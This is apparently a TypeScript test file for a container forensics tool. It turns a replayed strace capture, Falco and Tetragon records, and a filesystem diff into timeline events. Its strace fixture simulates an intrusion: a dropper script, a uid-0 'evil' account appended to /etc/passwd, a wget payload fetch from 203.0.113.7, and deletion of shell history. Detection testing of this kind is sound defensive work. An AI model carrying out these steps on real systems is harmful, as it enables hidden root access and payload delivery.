// A replayed strace capture and a filesystem diff on the time axis: what the attacker ran, wrote and contacted.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { JsonLineParser, parseJsonDocument } from '../../src/capture/common/trace/json-sources.js';
import { StraceParser } from '../../src/capture/common/trace/strace-parser.js';
import { TraceReplay } from '../../src/capture/common/trace/replay.js';
import type { AlertEvent, TetragonEvent, TraceEvent } from '../../src/capture/common/trace/trace-event.js';
import type { DiffEntry } from '../../src/forensics/common/diff-model.js';
import { diffEvents } from '../../src/forensics/common/timeline-filesystem.js';
import { traceEvents } from '../../src/forensics/common/timeline-trace.js';

const REF = { itemId: 'trace-a785-strace-1', sha256: 'c'.repeat(64), engineId: 'default', containerId: '9f71' };

/**
 * Lines of a real `strace -f -ttt -yy` capture of a scripted busybox session (HoldCell's own capture, trimmed);
 * the setuid, kill and history lines at the end were written by hand in the same format.
 */
const STRACE = `
8049  1795397261.721996 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x2148e690) = 8094
8094  1795397261.726700 execve("/proc/self/exe", ["sh", "-c", "echo shell-spawned"], 0x214913d8 /* 6 vars */) = 0
8094  1795397261.731441 write(1</dev/pts/0>, "shell-spawned\\n", 14) = 14
8094  1795397261.731501 exit_group(0)   = ?
8094  1795397261.731623 +++ exited with 0 +++
8049  1795397261.740429 openat(AT_FDCWD</>, "/tmp/dropper.sh", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</tmp/dropper.sh>
8049  1795397261.741002 write(3</tmp/dropper.sh>, "#!/bin/sh\\necho dropper-ran\\n", 27) = 27
8049  1795397261.741110 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x2148e690) = 8095
8095  1795397261.744798 prctl(PR_SET_NAME, "chmod") = 0
8095  1795397261.745202 chmod("/tmp/dropper.sh", 0755) = 0
8095  1795397261.745463 exit_group(0)   = ?
8095  1795397261.746491 +++ exited with 0 +++
8049  1795397261.754980 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x2148e690) = 8096
8096  1795397261.758393 execve("/tmp/dropper.sh", ["/tmp/dropper.sh"], 0x21491390 /* 6 vars */) = 0
8096  1795397261.766669 write(1</dev/pts/0>, "dropper-ran\\n", 12) = 12
8096  1795397261.767724 +++ exited with 0 +++
8049  1795397261.776758 openat(AT_FDCWD</>, "/etc/passwd", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3</etc/passwd>
8049  1795397261.778224 write(3</etc/passwd>, "evil:x:0:0::/root:/bin/sh\\n", 26) = 26
8049  1795397261.778603 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x2148e690) = 8097
8097  1795397261.782014 execve("/proc/self/exe", ["wget", "-q", "-O", "/tmp/payload", "http://203.0.113.7/payload"], 0x21491428 /* 6 vars */) = 0
8097  1795397261.785162 socket(AF_INET, SOCK_STREAM, IPPROTO_IP) = 3<TCP:[917001]>
8097  1795397261.786284 connect(3<TCP:[917001]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 ENETUNREACH (Network is unreachable)
8097  1795397261.787085 +++ exited with 1 +++
8049  1795397261.796207 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x2148e690) = 8098
8098  1795397261.799632 mkdir("/", 0777) = -1 EEXIST (File exists)
8098  1795397261.799700 execve("/usr/local/bin/mkdir", ["mkdir", "-p", "/root"], 0x21491428 /* 6 vars */) = -1 ENOENT (No such file or directory)
8098  1795397261.799885 +++ exited with 0 +++
8049  1795397261.812994 unlink("/root/.ash_history") = 0
8049  1795397261.820000 setuid(0) = 0
8049  1795397261.830000 kill(8097, SIGKILL) = 0
8049  1795397261.840000 write(1</dev/null>, "x", 1) = 1
`;

function replayOf(text: string): { replay: TraceReplay; sources: (AlertEvent | TetragonEvent)[] } {
  const replay = new TraceReplay();
  const sources: (AlertEvent | TetragonEvent)[] = [];
  const sink = (event: TraceEvent): void => {
    replay.apply(event);
    if (event.kind === 'alert' || event.kind === 'tetragon') sources.push(event);
  };
  const parser = new StraceParser(sink, {});
  for (const line of text.split('\n')) parser.line(line);
  parser.end();
  replay.finish();
  return { replay, sources };
}

describe('a replayed strace capture', () => {
  const { replay, sources } = replayOf(STRACE);
  const { events, problems } = traceEvents(replay, sources, REF);
  const shown = events.map((event) => `${event.kind} ${event.summary}`);

  it('given the session, then execs, file changes, the failed connection, setuid and the kill are events', () => {
    expect(problems).toEqual([]);
    expect(shown).toEqual(
      expect.arrayContaining([
        'process.exec pid 8094 ran sh -c echo shell-spawned',
        'file.write pid 8049 write /tmp/dropper.sh mode 0666 (27 bytes)',
        'file.chmod pid 8095 chmod /tmp/dropper.sh mode 0755',
        'process.exec pid 8096 ran /tmp/dropper.sh',
        'file.write pid 8049 write /etc/passwd mode 0666 (26 bytes)',
        'process.exec pid 8097 ran wget -q -O /tmp/payload http://203.0.113.7/payload',
        'network.connect pid 8097 connected to 203.0.113.7:80 (failed: ENETUNREACH)',
        'file.unlink pid 8049 unlink /root/.ash_history',
        'process.credentials pid 8049 setuid: uid 0 euid 0 gid ? egid ?',
        'signal.sent pid 8049 sent SIGKILL to 8097',
      ]),
    );
  });

  it('given PATH lookups that fail with ENOENT, existing folders of mkdir -p and writes to /dev/null, then they are not events', () => {
    expect(shown.filter((line) => line.includes('/usr/local/bin/mkdir'))).toEqual([]);
    expect(shown.filter((line) => line.includes('EEXIST'))).toEqual([]);
    expect(shown.filter((line) => line.includes('/dev/null'))).toEqual([]);
  });

  it('given each event, then it cites the trace item, its hash and the replay position to jump to', () => {
    const chmod = events.find((event) => event.kind === 'file.chmod');
    expect(chmod?.evidence).toEqual({ itemId: REF.itemId, sha256: REF.sha256, locator: `seq ${chmod?.replaySeq}` });
    expect(chmod?.subject).toMatchObject({ containerId: '9f71', pid: 8095, path: '/tmp/dropper.sh' });
    expect(chmod?.tns).toBe('1795397261745202000');
    // The forked child had not exec'd: it still runs its parent's program, which is what the process says.
    const exec = events.find((event) => event.summary.includes('wget'));
    expect(exec?.attributes).toMatchObject({ exe: '/proc/self/exe', ppid: 8049, result: 'ok' });
  });

  it('given a trace without timestamps, then its events are counted as a problem instead of being placed anywhere', () => {
    const untimed = replayOf('10 execve("/bin/sh", ["sh"], 0x1 /* 0 vars */) = 0\n');
    const result = traceEvents(untimed.replay, untimed.sources, REF);
    expect(result.events).toEqual([]);
    expect(result.problems[0]).toContain('1 event(s) without a timestamp');
  });
});

const sample = (name: string): string => readFileSync(new URL(`../fixtures/samples/${name}`, import.meta.url), 'utf8');

describe('Falco and Tetragon records in a trace', () => {
  function replayJson(format: 'falco' | 'tetragon', text: string, document = false) {
    const replay = new TraceReplay();
    const sources: (AlertEvent | TetragonEvent)[] = [];
    const sink = (event: TraceEvent): void => {
      replay.apply(event);
      if (event.kind === 'alert' || event.kind === 'tetragon') sources.push(event);
    };
    if (document) parseJsonDocument(format, text, sink);
    else new JsonLineParser(format, sink).chunk(text);
    replay.finish();
    return traceEvents(replay, sources, REF);
  }

  it('given a Falco alert with ATT&CK tags, then it is one falco event carrying the T-numbers and the rule', () => {
    // The first line of the Falco sample with the "tags" property Falco adds when json_include_tags_property is on.
    const line =
      sample('falco/alerts.jsonl')
        .split('\n')[0]
        ?.replace('{"output"', '{"tags":["container","shell","mitre_execution","T1059"],"output"') ?? '';
    const { events } = replayJson('falco', line);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      source: 'falco',
      kind: 'alert',
      techniques: ['T1059'],
      subject: { containerId: 'a98c2aa8e670', process: 'bash ' },
      attributes: {
        rule: 'Terminal shell in container',
        priority: 'Notice',
        tags: 'container,shell,mitre_execution,T1059',
      },
    });
    expect(events[0]?.at).toBe('2017-12-20T17:48:58.590038385Z');
  });

  it('given a Tetragon process_exec export, then it is a tetragon process.exec (not also a syscall event)', () => {
    const { events } = replayJson('tetragon', sample('tetragon/process_exec.json'), true);
    expect(events.map((event) => [event.source, event.kind])).toEqual([['tetragon', 'process.exec']]);
    expect(events[0]).toMatchObject({
      subject: { pid: 115153, process: '/usr/bin/curl www.google.com' },
      attributes: { pod: 'elasticsearch-56f8fc6988-pb8c7', namespace: 'tenant-jobs', exe: '/usr/bin/curl' },
    });
  });
});

const meta = (type: 'file' | 'dir', mode: number, mtime: string, sha256?: string) => ({
  type,
  mode,
  uid: 0,
  gid: 0,
  size: 27,
  mtime,
  ...(sha256 === undefined ? {} : { sha256 }),
});

describe('the filesystem diff', () => {
  const entries: DiffEntry[] = [
    {
      path: 'etc/passwd',
      change: 'modified',
      before: meta('file', 0o644, '2026-11-22T22:20:09Z', 'b'.repeat(64)),
      after: meta('file', 0o644, '2026-11-23T01:27:41Z', 'a'.repeat(64)),
      findings: [
        { rule: 'new-uid0-account', severity: 'critical', attack: 'T1136.001', detail: 'new uid 0 account: evil' },
        { rule: 'account-files-changed', severity: 'medium', attack: 'T1098', detail: 'etc/passwd was modified' },
      ],
    },
    {
      path: 'tmp/dropper.sh',
      change: 'added',
      after: meta('file', 0o755, '2026-11-23T01:27:41.5Z', 'd'.repeat(64)),
      findings: [],
    },
    { path: 'var/log/auth.log', change: 'deleted', before: meta('file', 0o640, '2026-11-20T00:00:00Z'), findings: [] },
    { path: 'old', change: 'added', after: meta('file', 0o644, '1960-01-01T00:00:00Z'), findings: [] },
  ];
  const { events, problems } = diffEvents(
    entries,
    { itemId: 'fs-export-9f71', sha256: 'e'.repeat(64) },
    {
      exportAcquiredAt: '2026-11-23T01:27:53.797Z',
    },
  );

  it('given modified and added files, then they sit at their mtimes, approximate, with the findings\u2019 techniques', () => {
    expect(events[0]).toMatchObject({
      kind: 'file.modified',
      at: '2026-11-23T01:27:41.000000000Z',
      confidence: 'approximate',
      techniques: ['T1098', 'T1136.001'],
      subject: { path: '/etc/passwd' },
      attributes: {
        sha256: 'a'.repeat(64),
        sha256Before: 'b'.repeat(64),
        severity: 'critical',
        findings: 'new-uid0-account,account-files-changed',
      },
      evidence: { itemId: 'fs-export-9f71', locator: 'path /etc/passwd' },
    });
    expect(events[1]).toMatchObject({ kind: 'file.added', attributes: { mode: '0755' } });
  });

  it('given a deleted file, then it is placed when the export was acquired, inferred, and says why', () => {
    expect(events[2]).toMatchObject({
      kind: 'file.deleted',
      at: '2026-11-23T01:27:53.797000000Z',
      confidence: 'inferred',
      attributes: { timeBasis: 'export acquired (deleted before then)' },
    });
  });

  it('given an mtime before 1970, then the entry is a problem, not an event at a made-up time', () => {
    expect(events).toHaveLength(3);
    expect(problems).toEqual([
      'fs-export-9f71: 1 diff entry has no usable time (mtime before 1970 or unreadable): /old',
    ]);
  });
});
